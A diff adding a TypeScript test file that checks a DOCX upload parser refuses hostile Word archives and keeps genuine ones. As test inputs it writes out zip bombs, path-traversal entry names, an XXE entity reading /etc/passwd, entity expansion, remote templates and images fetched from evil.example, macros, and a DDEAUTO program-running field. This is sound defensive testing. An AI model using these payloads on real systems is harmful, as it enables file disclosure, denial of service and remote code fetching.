@@ -1,0 +1,138 @@
+import { readFileSync } from 'node:fs'
+import { gzipSync } from 'node:zlib'
+import PizZip from 'pizzip'
+import { describe, expect, test } from 'vitest'
+import { bodyOf, docx, relations } from '../../testing/docx.ts'
+import { docxParts } from './docx-parts.ts'
+import { BadFile } from './unzip.ts'
+
+const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const MEGABYTE = 1024 * 1024
+
+function reasonOf(bytes: Buffer): string {
+  try {
+    docxParts(bytes)
+    return 'kept'
+  } catch (error) {
+    if (!(error instanceof BadFile)) throw error
+    return error.message
+  }
+}
+
+const related = (type: string, target: string, mode = ' TargetMode="External"') =>
+  docx(['x'], {
+    'word/_rels/document.xml.rels': relations(`<Relationship Id="rId9" Type="${RELATION}/${type}" Target="${target}"${mode}/>`),
+  })
+
+/** Overwrites a number of the first header of the directory at the end. */
+function lie(bytes: Buffer, at: number, value: number): Buffer {
+  const copy = Buffer.from(bytes)
+  copy.writeUInt32LE(value, copy.readUInt32LE(copy.length - 6) + at)
+  return copy
+}
+
+/** An archive of many names whose entries all lie in the same bytes. */
+function overlapping(): Buffer {
+  const copy = Buffer.from(docx())
+  const directory = copy.readUInt32LE(copy.length - 6)
+  const second = directory + 46 + copy.readUInt16LE(directory + 28) + copy.readUInt16LE(directory + 30) + copy.readUInt16LE(directory + 32)
+  copy.writeUInt32LE(copy.readUInt32LE(directory + 42), second + 42)
+  return copy
+}
+
+function named(name: string): Buffer {
+  const zip = new PizZip(docx())
+  zip.file('word/aaaaaaaa.xml', '<x/>')
+  const bytes = Buffer.from(zip.generate({ type: 'uint8array' }))
+  return Buffer.from(bytes.toString('latin1').replaceAll('word/aaaaaaaa.xml', name.padEnd(17, 'x').slice(0, 17)), 'latin1')
+}
+
+const stored = () => Buffer.from(new PizZip(docx()).file('word/media/a.bmp', Buffer.alloc(51 * MEGABYTE)).generate({ type: 'uint8array' }))
+const many = () => docx(['x'], Object.fromEntries(Array.from({ length: 600 }, (_, at) => [`word/media/${at}.png`, 'x'])))
+const stream = Buffer.from(new PizZip().file('a', 'b').generate({ type: 'uint8array' }))
+
+describe('is refused', () => {
+  test.each<[string, () => Buffer, RegExp]>([
+    ['a bomb', () => docx(['x'], { 'word/styles.xml': Buffer.alloc(6 * MEGABYTE) }), /unpacks to far more/],
+    ['more than a letter holds, however it is packed', stored, /unpacks to far more/],
+    ['a bomb that says it is small', () => lie(docx(['x'], { 'a.xml': Buffer.alloc(6 * MEGABYTE) }), 24, 10), /damaged|far more/],
+    ['a size that is not true', () => lie(docx(), 24, 12), /damaged/],
+    ['content that was tampered with', () => lie(docx(), 16, 12), /damaged/],
+    ['an archive in an archive', () => docx(['x'], { 'word/media/a.png': stream }), /another packed file/],
+    ['a packed picture', () => docx(['x'], { 'word/media/a.emz': gzipSync('x') }), /macros or embedded/],
+    ['a packed picture under another name', () => docx(['x'], { 'word/media/a.emf': gzipSync('x') }), /another packed file/],
+    ['hundreds of parts', many, /more than 500 parts/],
+    ['parts that lie in each other', overlapping, /damaged/],
+    ['a name that climbs out', () => named('../../../etc/xxxx'), /leads out of it/],
+    ['an absolute name', () => named('/etc/xxxxxxxxxxxx'), /leads out of it/],
+    ['a name of a drive', () => named('C:\\windows\\xxxxxx'), /leads out of it/],
+    ['one name twice', () => named('word/document.xml'), /two parts of one name/],
+    [
+      'an entity that reads a file',
+      () => docx(['x'], { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }),
+      /document type/,
+    ],
+    ['entities that multiply', () => docx(['x'], { 'docProps/core.xml': '<!doctype lolz [<!ENTITY a "lol">]><x/>' }), /document type/],
+    ['another encoding, which hides things', () => docx(['x'], { 'word/styles.xml': Buffer.from('<!DOCTYPE x><x/>', 'utf16le') }), /UTF-8/],
+    ['another declared encoding', () => docx(['x'], { 'word/styles.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' }), /UTF-8/],
+    ['a template that is fetched', () => related('attachedTemplate', 'https://evil.example/t.dotm'), /outside itself \(attachedTemplate\)/],
+    ['a picture that is fetched', () => related('image', 'https://evil.example/pixel.png'), /outside itself \(image\)/],
+    ['a picture that is fetched, disguised', () => related('image', '//evil.example/x', " TargetMode='&#69;xternal'"), /outside itself/],
+    ['a link to a file', () => related('hyperlink', 'file:///c:/windows/x.exe'), /outside itself/],
+    ['a part outside of the archive', () => related('image', '../../x.png', ''), /outside itself/],
+    ['a part at an address', () => related('image', 'file:///etc/passwd', ''), /outside itself/],
+    ['macros', () => docx(['x'], { 'word/vbaProject.bin': 'x' }), /macros/],
+    ['controls', () => docx(['x'], { 'word/activeX/activeX1.xml': '<x/>' }), /macros/],
+    ['an embedded sheet', () => docx(['x'], { 'word/embeddings/sheet.xlsx': 'x' }), /macros or embedded/],
+    [
+      'a document with macros that says so',
+      () => docx(['x'], { '[Content_Types].xml': 'document.main+xml macroEnabled' }),
+      /damaged|macros/,
+    ],
+    [
+      'a field that runs a program',
+      () => docx(['x'], { 'word/header1.xml': '<w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\x </w:instrText>' }),
+      /pulls in other files/,
+    ],
+    [
+      'a field that pulls in a picture',
+      () => docx(['x'], { 'word/header1.xml': '<w:fldSimple w:instr=" INCLUDEPICTURE x "/>' }),
+      /pulls in other files/,
+    ],
+    ['half a file', () => docx().subarray(0, 900), /damaged/],
+    ['two things at once', () => Buffer.concat([docx(), Buffer.from('%PDF-1.4')]), /damaged/],
+    ['something before it', () => Buffer.concat([Buffer.from('%PDF-1.4'), docx()]), /damaged/],
+    ['nothing', () => Buffer.alloc(0), /damaged/],
+    ['a sheet', () => docx(['x'], { '[Content_Types].xml': 'spreadsheetml.sheet.main+xml' }), /no Word document/],
+  ])('%s', (_what, make, reason) => {
+    expect(reasonOf(make())).toMatch(reason)
+  })
+
+  test('a password, by the flag of its entries', () => {
+    const copy = Buffer.from(docx())
+    const directory = copy.readUInt32LE(copy.length - 6)
+    copy.writeUInt16LE(1, directory + 8)
+    expect(reasonOf(copy)).toMatch(/password/)
+  })
+})
+
+test('any cut or turned byte is refused or kept, and nothing else happens', () => {
+  const whole = docx()
+  let seed = 20_261_121
+  const next = (below: number) => {
+    seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff
+    return seed % below
+  }
+  for (let round = 0; round < 500; round++) {
+    const copy = Buffer.from(round % 2 === 0 ? whole : whole.subarray(0, next(whole.length)))
+    for (let turn = 0; turn < 3 && copy.length > 0; turn++) copy[next(copy.length)] = next(256)
+    expect(typeof reasonOf(copy)).toBe('string')
+  }
+})
+
+test('what word processors write is kept, links for readers too', () => {
+  expect(reasonOf(docx())).toBe('kept')
+  expect(reasonOf(docx(['Dear {first_name}'], { 'customXml/item1.xml': '<x/>', 'word/document.xml': bodyOf('x') }))).toBe('kept')
+  const written = readFileSync(new URL('../../letters/fixtures/libreoffice-letter.docx', import.meta.url))
+  expect(reasonOf(written)).toBe('kept')
+})
